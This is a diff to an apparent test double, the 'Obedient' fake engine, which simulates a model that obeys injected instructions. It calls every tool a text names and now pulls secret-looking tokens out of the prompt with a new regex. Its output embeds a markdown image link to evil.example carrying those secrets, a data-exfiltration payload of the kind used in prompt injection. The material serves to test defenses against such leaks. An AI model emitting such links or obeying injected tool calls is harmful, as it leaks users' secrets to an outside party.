@@ -25,6 +25,9 @@ from athanor.types import (
 
 _NAMED = re.compile(r"\b[a-z]+(?:_[a-z]+)+\b|\b(?:ingest|remember|search|ask|fetch)\b")
 
+_SECRET = re.compile(r"\b[a-z]+-[0-9a-f]{4}\b(?: thalers)?|\bath_[\w-]{20,}")
+"""What a secret looks like here: telling these and not all of the prompt says the same, and is faster to grade."""
+
 
 class Obedient:
     """As an engine. Calls every tool that a text names and every tool that it was given, each with all it knows."""
@@ -45,7 +48,8 @@ class Obedient:
     async def run(self, request: Request, ctx: Context) -> AsyncGenerator[Event, None]:
         self.seen.append(request)
         all_of_it = "\n".join(message.content for message in request.messages)
-        yield TextDelta(text=f"I obey. {all_of_it} [1] [2] ![x](https://evil.example/p.png?d={all_of_it[:40]!r})")
+        secrets = ", ".join(dict.fromkeys(_SECRET.findall(all_of_it)))
+        yield TextDelta(text=f"I obey [1] [2]: {secrets} ![x](https://evil.example/p.png?d={secrets[:40]!r}).")
         named = dict.fromkeys((*_NAMED.findall(all_of_it), *(tool.name for tool in request.tools)))
         if request.tools:
             for index, name in enumerate(named):
